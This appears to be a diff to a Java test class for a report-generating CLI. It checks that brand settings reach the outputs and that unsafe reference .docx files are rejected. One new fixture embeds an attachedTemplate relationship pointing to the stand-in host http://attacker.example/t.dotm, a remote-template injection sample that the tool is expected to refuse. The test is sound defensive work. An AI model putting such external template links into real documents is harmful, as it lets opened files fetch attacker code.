@@ -82,6 +82,26 @@ class ReferenceDocxCliTest {
     }
 
     @Test
+    void the_brand_file_can_name_the_reference_docx_and_its_name_is_in_every_document() throws Exception {
+        Files.write(tmp.resolve("firm.docx"), firmDocx(true));
+        Path brand = tmp.resolve("brand.yaml");
+        Files.writeString(brand, "name: 示例律师事务所\ncolour: \"#1a4d8f\"\nreference_docx: firm.docx\n");
+        Path out = tmp.resolve("out");
+        StringWriter err = new StringWriter();
+        assertThat(run(err, "assess", "--out", out.toString(), "--formats", "html,docx", "--date", "2026-12-04", "--brand", brand.toString(),
+                "samples/us-listing-platform.yaml")).as(err.toString()).isZero();
+        try (var walk = Files.walk(out)) {
+            for (Path d : walk.filter(p -> p.toString().endsWith(".docx") || p.toString().endsWith(".html")).toList()) {
+                if (d.toString().endsWith(".html")) {
+                    assertThat(Files.readString(d)).as(d.toString()).contains("示例律师事务所", "#1a4d8f");
+                } else {
+                    assertThat(part(Files.readAllBytes(d), "word/styles.xml")).as(d.toString()).contains(FONT);
+                }
+            }
+        }
+    }
+
+    @Test
     void a_file_that_is_not_a_docx_an_encrypted_one_or_one_without_a_heading_style_stops_before_any_work() throws Exception {
         Path text = tmp.resolve("notes.docx");
         Files.writeString(text, "not a zip");
@@ -90,9 +110,15 @@ class ReferenceDocxCliTest {
         Path partial = tmp.resolve("partial.docx");
         Files.write(partial, firmDocx(false));
         Path macros = tmp.resolve("macros.docx");
-        Files.write(macros, withEntry(firmDocx(true), "word/vbaProject.bin"));
+        Files.write(macros, withEntry(firmDocx(true), "word/vbaProject.bin", new byte[] {1, 2, 3}));
+        Path linked = tmp.resolve("linked.docx");
+        Files.write(linked, withEntry(firmDocx(true), "word/_rels/settings.xml.rels", ("<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas."
+                + "openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/"
+                + "2006/relationships/attachedTemplate\" Target=\"http://attacker.example/t.dotm\" TargetMode=\"External\"/></Relationships>")
+                .getBytes(StandardCharsets.UTF_8)));
         String[][] cases = {{text.toString(), "B004", "is not a .docx"}, {encrypted.toString(), "B005", "encrypted"},
-                {partial.toString(), "B008", "Heading 3"}, {macros.toString(), "B006", "macros"}};
+                {partial.toString(), "B008", "Heading 3"}, {macros.toString(), "B006", "macros"},
+                {linked.toString(), "B007", "http://attacker.example/t.dotm"}};
         for (String[] c : cases) {
             Path out = tmp.resolve("out-" + c[1]);
             StringWriter err = new StringWriter();
@@ -117,7 +143,7 @@ class ReferenceDocxCliTest {
         }
     }
 
-    private static byte[] withEntry(byte[] docx, String name) throws Exception {
+    private static byte[] withEntry(byte[] docx, String name, byte[] content) throws Exception {
         ByteArrayOutputStream out = new ByteArrayOutputStream();
         try (ZipInputStream in = new ZipInputStream(new java.io.ByteArrayInputStream(docx));
                 java.util.zip.ZipOutputStream zip = new java.util.zip.ZipOutputStream(out)) {
@@ -126,7 +152,7 @@ class ReferenceDocxCliTest {
                 zip.write(in.readAllBytes());
             }
             zip.putNextEntry(new ZipEntry(name));
-            zip.write(new byte[] {1, 2, 3});
+            zip.write(content);
         }
         return out.toByteArray();
     }
